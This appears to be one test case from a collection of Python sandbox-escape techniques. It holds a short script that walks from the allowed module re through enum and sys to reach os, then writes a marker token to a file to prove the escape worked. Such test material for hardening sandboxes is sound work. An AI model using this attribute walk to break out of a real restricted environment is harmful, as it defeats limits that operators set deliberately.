# id: intro-whitelisted-module-walk
# category: introspection
# description: a whitelisted module is a door: re imports enum, enum imports sys, sys.modules has os
# source: module attribute walks (pyjail folklore); re and string are the talk's own whitelist
# detect: token (the token lands in OUT)
import re

os_module = re.enum.sys.modules['os']

fd = os_module.open(OUT, os_module.O_WRONLY | os_module.O_CREAT | os_module.O_TRUNC, 0o644)
os_module.write(fd, TOKEN.encode())
os_module.close(fd)
